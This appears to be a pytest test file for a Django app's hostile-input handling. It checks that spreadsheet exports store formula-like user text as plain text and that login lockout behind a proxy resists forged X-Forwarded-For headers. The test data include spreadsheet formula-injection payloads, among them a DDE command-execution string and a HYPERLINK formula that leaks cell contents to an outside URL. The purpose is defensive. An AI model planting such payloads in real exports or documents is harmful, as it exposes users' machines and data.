"""Hostile and unlucky input (issue 12): formulas in exports, the address behind the proxy, bombs, junk."""

import io
import zipfile

import pytest
from axes.models import AccessFailureLog
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from projects.ledger import ledger_read
from projects.models import Issue, Project
from tests.zone import PASSWORD

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x/?"&A2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
]


def _sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        ]


def test_user_text_that_looks_like_a_formula_is_exported_as_text_and_reimports_unchanged(zone, login):
    Project.objects.filter(pk=zone.project_a.pk).update(
        name=FORMULAS[0], content=FORMULAS[1], industry=FORMULAS[2]
    )
    zone.enterprise.name = FORMULAS[4]
    zone.enterprise.save()
    Issue.objects.create(
        project=zone.project_a,
        category="permits",
        description=FORMULAS[3],
        resolution=FORMULAS[0],
        raised_at=timezone.now(),
    )
    client = login(zone.coordinator)

    content = b"".join(client.get("/projects/export.xlsx").streaming_content)
    assert all("<f>" not in xml for xml in _sheet_xml(content))  # not one formula in any sheet
    cells = {
        cell.value: cell
        for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[4]):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    plan = ledger_read(io.BytesIO(content))
    assert plan.errors == [] and plan.changes == []  # the export re-imports unchanged

    content = b"".join(client.get("/issues/export.xlsx").streaming_content)
    assert all("<f>" not in xml for xml in _sheet_xml(content))
    values = {
        cell.value for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for cell in row
    }
    assert {FORMULAS[3], FORMULAS[0]} <= values


# --- The client address behind the proxy ------------------------------------------------------------


def _login(username, password, forwarded, client=None):
    return (client or Client()).post(
        "/login/",
        {"username": username, "password": password},
        REMOTE_ADDR="127.0.0.1",  # every request arrives from the proxy
        HTTP_X_FORWARDED_FOR=forwarded,
    )


@pytest.mark.parametrize(
    ("count", "attacker", "attacker_again", "other"),
    [
        # One proxy (nginx appends the client): the right-most entry; the rest is the client's own.
        (1, "203.0.113.9", "6.6.6.6, 203.0.113.9", "198.51.100.7"),
        # Two proxies: the second from the right.
        (2, "203.0.113.9, 10.0.0.2", "1.1.1.1, 203.0.113.9, 10.0.0.2", "198.51.100.7, 10.0.0.2"),
    ],
)
def test_behind_the_proxy_the_attacker_is_locked_and_another_client_is_not(
    zone, settings, count, attacker, attacker_again, other
):
    settings.BEHIND_PROXY = True
    settings.PROXY_COUNT = count
    client = Client()
    for _attempt in range(settings.AXES_FAILURE_LIMIT):
        response = _login("grid", "wrong", attacker, client)
    assert response.status_code == 429
    assert set(AccessFailureLog.objects.values_list("ip_address", flat=True)) == {"203.0.113.9"}
    # A forged left part does not give the attacker a new address.
    assert _login("grid", PASSWORD, attacker_again).status_code == 429
    # The real user, from another address through the same proxy, logs in.
    response = _login("grid", PASSWORD, other)
    assert response.status_code == 302 and response["Location"] == "/"


def test_without_the_proxy_setting_a_forged_header_is_ignored(zone, settings):
    settings.BEHIND_PROXY = False
    settings.PROXY_COUNT = 1
    for _attempt in range(settings.AXES_FAILURE_LIMIT):
        _login("grid", "wrong", "203.0.113.9")
    assert set(AccessFailureLog.objects.values_list("ip_address", flat=True)) == {"127.0.0.1"}
    assert settings.AXES_CLIENT_IP_CALLABLE == "newzone.client_ip.client_ip"
